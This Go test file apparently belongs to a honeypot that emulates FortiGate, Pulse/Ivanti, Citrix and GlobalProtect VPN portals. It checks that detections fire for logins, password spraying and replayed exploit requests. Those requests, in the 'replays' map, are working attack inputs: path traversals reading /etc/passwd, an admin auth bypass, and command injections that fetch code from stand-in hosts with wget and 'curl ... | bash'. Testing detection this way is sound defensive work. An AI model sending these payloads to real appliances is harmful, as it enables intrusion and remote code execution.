package vpn_test

import (
	"bytes"
	"context"
	"crypto/tls"
	"flag"
	"fmt"
	"net"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/kansoku/kansoku/internal/alert"
	"github.com/kansoku/kansoku/internal/event"
	"github.com/kansoku/kansoku/internal/intel"
	"github.com/kansoku/kansoku/internal/sensor"
	"github.com/kansoku/kansoku/internal/sensor/vpn"
	"github.com/kansoku/kansoku/internal/sensortest"
	"go.uber.org/goleak"
)

func TestMain(m *testing.M) { goleak.VerifyTestMain(m) }

func need(t *testing.T, tool string) string {
	t.Helper()
	p, err := exec.LookPath(tool)
	if err != nil {
		t.Skipf("%s not installed (scripts/deps/telework.apt lists it): %v", tool, err)
	}
	return p
}

func start(t *testing.T, profile string) *sensortest.Instance {
	t.Helper()
	return sensortest.Start(t, sensortest.Options{Factory: "vpn", Config: "profile: " + profile + "\n"}, sensor.DefaultLimits())
}

// curl runs curl against the instance over HTTPS and returns its output.
func curl(t *testing.T, in *sensortest.Instance, args ...string) string {
	t.Helper()
	ctx, cancel := context.WithTimeout(context.Background(), 30*time.Second)
	defer cancel()
	base := []string{"-sk", "--path-as-is", "--max-time", "20"}
	out, err := exec.CommandContext(ctx, need(t, "curl"), append(base, args...)...).CombinedOutput()
	if err != nil {
		t.Fatalf("curl %s: %v\n%s", strings.Join(args, " "), err, out)
	}
	return string(out)
}

func url(in *sensortest.Instance, path string) string { return "https://" + in.Addr + path }

func TestConformance(t *testing.T) {
	sensortest.Run(t, sensortest.Options{Factory: "vpn", Config: "profile: fortigate\ntls: false\n", Exchange: func(t testing.TB, c net.Conn) {
		c.Write([]byte("GET / HTTP/1.1\r\nHost: x\r\n\r\n"))
	}})
}

func has(e *event.Event, key, want string) bool {
	switch v := e.Data[key].(type) {
	case []string:
		return slices.Contains(v, want)
	case []any:
		for _, x := range v {
			if x == want {
				return true
			}
		}
	}
	return false
}

// replays are the exploit requests as scanners and exploitation tools
// send them, one per SSL-VPN signature, as curl arguments.
var replays = map[string]struct {
	profile string
	args    []string
}{
	"fortios-sslvpn-fgt-lang-traversal": {"fortigate", []string{"/remote/fgt_lang?lang=/../../../..//////////dev/cmdb/sslvpn_websession"}},
	"fortios-api-auth-bypass": {"fortigate", []string{"/api/v2/cmdb/system/admin/admin", "-X", "PUT", "-A", "Report Runner",
		"-H", `Forwarded: for="[127.0.0.1]:8000";by="[127.0.0.1]:9000";`, "-H", "Content-Type: application/json",
		"--data", `{"ssh-public-key1": "\"ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABgQC7 x@host.invalid\""}`}},
	"fortios-sslvpn-enc-overflow":      {"fortigate", []string{"/remote/hostcheck_validate", "--data", "enc=" + strings.Repeat("ab", 700)}},
	"pulse-secure-guacamole-file-read": {"pulse", []string{"/dana-na/../dana/html5acc/guacamole/../../../../../../etc/passwd?/dana/html5acc/guacamole/"}},
	"ivanti-cs-auth-bypass":            {"pulse", []string{"/api/v1/totp/user-backup-code/../../system/system-information"}},
	"ivanti-cs-command-injection": {"pulse", []string{"/api/v1/totp/user-backup-code/../../system/maintenance/archiving/cloud-server-test-connection",
		"-H", "Content-Type: application/json", "--data", `{"type":";wget -O /tmp/x http://203.0.113.9/x;","txtGCPProject":"a","txtGCPSecret":"a","txtGCPPath":"a","txtGCPBucket":"a"}`}},
	"citrix-adc-vpns-traversal": {"citrix", []string{"/vpn/../vpns/portal/scripts/newbm.pl", "-H", "NSC_USER: ../../../netscaler/portal/templates/t1", "-H", "NSC_NONCE: nsroot",
		"--data", "url=http://127.0.0.1&title=[%25+template.new({'BLOCK'='print+readpipe(\"id\")'})+%25]&desc=desc&UI_inuse=RfWebUI"}},
	"citrix-bleed": {"citrix", []string{"/oauth/idp/.well-known/openid-configuration", "-H", "Host: " + strings.Repeat("a", 24812)}},
	"panos-globalprotect-sessid-injection": {"globalprotect", []string{"/ssl-vpn/hipreport.esp", "-X", "POST",
		"-H", "Cookie: SESSID=/../../../opt/panlogs/tmp/device_telemetry/minute/y`curl${IFS}http://203.0.113.16/gp.sh|bash`"}},
}

// TestExploitReplays replays every SSL-VPN signature with curl against its
// appliance: the request event names the signature, its CVEs and its
// disclosure date.
func TestExploitReplays(t *testing.T) {
	need(t, "curl")
	set, err := intel.LoadExploits()
	if err != nil {
		t.Fatal(err)
	}
	instances := map[string]*sensortest.Instance{}
	for _, sig := range set.Exploits() {
		if sig.Target.Class != "vpn" {
			continue
		}
		rp, ok := replays[sig.ID]
		if !ok {
			t.Errorf("vpn signature %s has no replay", sig.ID)
			continue
		}
		in := instances[rp.profile]
		if in == nil {
			in = start(t, rp.profile)
			instances[rp.profile] = in
		}
		t.Run(sig.ID, func(t *testing.T) {
			curl(t, in, append([]string{"-o", "/dev/null", url(in, rp.args[0])}, rp.args[1:]...)...)
			evs := in.Recorder.WaitFor(t, sig.ID, sensortest.Wait, func(evs []*event.Event) bool {
				return sensortest.Count(evs, "http.request", func(e *event.Event) bool { return has(e, "signature_ids", sig.ID) }) == 1
			})
			for _, e := range evs {
				if e.Kind != "http.request" || !has(e, "signature_ids", sig.ID) {
					continue
				}
				for _, c := range sig.CVEs {
					if !has(e, "cves", c) {
						t.Errorf("cves %v lack %s", e.Data["cves"], c)
					}
				}
				sigs, _ := e.Data["signatures"].([]map[string]any)
				if len(sigs) == 0 || sigs[0]["disclosed"] != sig.Disclosed {
					t.Errorf("signatures %v lack the disclosure date %s", e.Data["signatures"], sig.Disclosed)
				}
			}
		})
	}
}

// logins are each appliance's login form as its own page posts it.
var logins = map[string]struct {
	path, form, status string
}{
	"fortigate":     {"/remote/logincheck", "ajax=1&username=vpnuser&realm=&credential=Summer2026%21", "ret=0,redir=/remote/login?&err=sslvpn_login_permission_denied"},
	"pulse":         {"/dana-na/auth/url_default/login.cgi", "tz_offset=60&username=vpnuser&password=Summer2026%21&realm=Users&btnSubmit=Sign+In", "welcome.cgi?p=failed"},
	"citrix":        {"/cgi/login", "login=vpnuser&passwd=Summer2026%21", "NSC_VPNERR=4001"},
	"globalprotect": {"/global-protect/login.esp", "prot=https%3A&server=&inputStr=&action=getsoftware&user=vpnuser&passwd=Summer2026%21&ok=Log+In", "Authentication failed"},
}

func TestLoginCaptured(t *testing.T) {
	for _, name := range vpn.Profiles() {
		t.Run(name, func(t *testing.T) {
			lg, ok := logins[name]
			if !ok {
				t.Fatalf("profile %s has no login test", name)
			}
			in := start(t, name)
			out := curl(t, in, "-i", url(in, lg.path), "--data", lg.form)
			if !strings.Contains(out, lg.status) {
				t.Errorf("answer lacks %q:\n%s", lg.status, out)
			}
			evs := in.Recorder.WaitFor(t, "login.failed", sensortest.Wait, func(evs []*event.Event) bool { return sensortest.Count(evs, "login.failed", nil) == 1 })
			var e *event.Event
			for _, x := range evs {
				if x.Kind == "login.failed" {
					e = x
				}
			}
			if e.Text("username") != "vpnuser" || e.Text("password") != "Summer2026!" || e.Str("profile") != name {
				t.Fatalf("login.failed %v", e.Data)
			}
			// The attempt is a row of the brute-force report.
			var b bytes.Buffer
			if err := alert.WriteReport(&b, alert.LayoutBruteForce, []*event.Event{e}, nil); err != nil {
				t.Fatal(err)
			}
			if !strings.Contains(b.String(), ",vpnuser,Summer2026!,") {
				t.Errorf("brute-force report row lacks the credentials:\n%s", b.String())
			}
		})
	}
}

// TestCertificate: each appliance shows the certificate subject its
// product makes, drawn per installation.
func TestCertificate(t *testing.T) {
	for name, want := range map[string]string{"fortigate": "OU=FortiGate", "citrix": "OU=NS Internal", "pulse": "O=Pulse Secure LLC", "globalprotect": "CN=gp-portal-"} {
		in := start(t, name)
		c, err := tls.Dial("tcp", in.Addr, &tls.Config{InsecureSkipVerify: true})
		if err != nil {
			t.Fatal(err)
		}
		leaf := c.ConnectionState().PeerCertificates[0]
		c.Close()
		if !strings.Contains(leaf.Subject.String(), want) {
			t.Errorf("%s: subject %s lacks %s", name, leaf.Subject, want)
		}
	}
}

func TestBadConfig(t *testing.T) {
	for _, cfg := range []string{"profile: sonicwall\n", "max_body: -1\n", "nonsense: 1\n"} {
		if _, err := vpn.New(sensor.Env{DataDir: t.TempDir()}, sensortest.DecodeYAML(cfg)); err == nil {
			t.Errorf("config %q accepted", cfg)
		}
	}
}

var update = flag.Bool("update", false, "rewrite the fuzz seed corpus under testdata/fuzz")

// handleSeeds start FuzzHandle: requests of each kind the portals see.
var handleSeeds = []string{
	"GET / HTTP/1.0\r\n\r\n",
	"POST /remote/logincheck HTTP/1.1\r\nHost: a\r\nContent-Length: 30\r\n\r\nusername=a&credential=b&realm=",
	"GET /remote/fgt_lang?lang=/../../../..//////////dev/cmdb/sslvpn_websession HTTP/1.1\r\nHost: x\r\n\r\n",
	"POST /cgi/login HTTP/1.1\r\nHost: a\r\nTransfer-Encoding: chunked\r\n\r\n5\r\nlogin\r\n0\r\n\r\n",
	"GET / HTTP/1.1\r\nHost: a\r\n\r\nGET /x HTTP/1.1\r\nHost: a\r\nConnection: close\r\n\r\n",
	"POST /ssl-vpn/hipreport.esp HTTP/1.1\r\nHost: a\r\nCookie: SESSID=/../../x`id`\r\nContent-Length: 0\r\n\r\n",
	"\x16\x03\x01\x00\x05hello", "GET /\xff\xfe HTTP/1.1\r\n\r\n",
}

// TestFuzzSeeds keeps testdata/fuzz/FuzzHandle in step with handleSeeds
// (-update rewrites it).
func TestFuzzSeeds(t *testing.T) {
	dir := filepath.Join("testdata", "fuzz", "FuzzHandle")
	for i, s := range handleSeeds {
		path := filepath.Join(dir, fmt.Sprintf("seed-%02d", i))
		want := fmt.Appendf(nil, "go test fuzz v1\nstring(%q)\n", s)
		if *update {
			if err := os.MkdirAll(dir, 0o755); err != nil {
				t.Fatal(err)
			}
			if err := os.WriteFile(path, want, 0o644); err != nil {
				t.Fatal(err)
			}
			continue
		}
		if got, err := os.ReadFile(path); err != nil || !bytes.Equal(got, want) {
			t.Errorf("%s is missing or stale (go test -run TestFuzzSeeds -update)", path)
		}
	}
}

// FuzzHandle feeds arbitrary client bytes to the HTTP handling of every
// profile over an in-memory connection: no panic, no hang, and the request
// target recorded is the one the client sent.
func FuzzHandle(f *testing.F) {
	var sensors []sensor.StreamSensor
	for _, p := range vpn.Profiles() {
		s, err := vpn.New(sensor.Env{DataDir: f.TempDir()}, sensortest.DecodeYAML("profile: "+p+"\ntls: false\nmax_body: 1024\n"))
		if err != nil {
			f.Fatal(err)
		}
		sensors = append(sensors, s.(sensor.StreamSensor))
	}
	f.Fuzz(func(t *testing.T, in string) {
		for _, s := range sensors {
			rec := sensortest.NewRecorder()
			env := &sensor.Env{SensorName: "fuzz", Emitter: rec}
			server, client := net.Pipe()
			l := sensor.DefaultLimits()
			l.IdleTimeout = 200 * time.Millisecond
			sess := sensor.NewSession(server, env, "vpn", l)
			go func() {
				client.Write([]byte(in))
				client.Close()
			}()
			go func() { _, _ = bytes.NewBuffer(nil).ReadFrom(client) }()
			_ = s.HandleConn(context.Background(), sess)
			server.Close()
			for _, e := range rec.Kind("http.request") {
				if uri := e.Text("uri"); !strings.Contains(in, uri) {
					t.Fatalf("recorded uri %q not in the input", uri)
				}
			}
		}
	})
}

// TestSprayAcrossSources: one password posted for ten accounts from three
// loopback sources is recognised as one spraying campaign.
func TestSprayAcrossSources(t *testing.T) {
	in := start(t, "fortigate")
	for i := range 10 {
		src := fmt.Sprintf("127.0.0.%d", 30+i%3)
		curl(t, in, "-o", "/dev/null", "--interface", src, url(in, "/remote/logincheck"), "--data", fmt.Sprintf("ajax=1&username=user%02d&realm=&credential=Autumn2026!", i))
	}
	evs := in.Recorder.WaitFor(t, "ten logins", sensortest.Wait, func(evs []*event.Event) bool { return sensortest.Count(evs, "login.failed", nil) == 10 })
	cs := intel.DetectSpraying(evs, intel.DefaultSprayOptions())
	if len(cs) != 1 || cs[0].SourceCount != 3 || cs[0].UserCount != 10 || len(cs[0].Passwords) != 1 || cs[0].Passwords[0] != "Autumn2026!" {
		t.Fatalf("campaigns %+v", cs)
	}
}
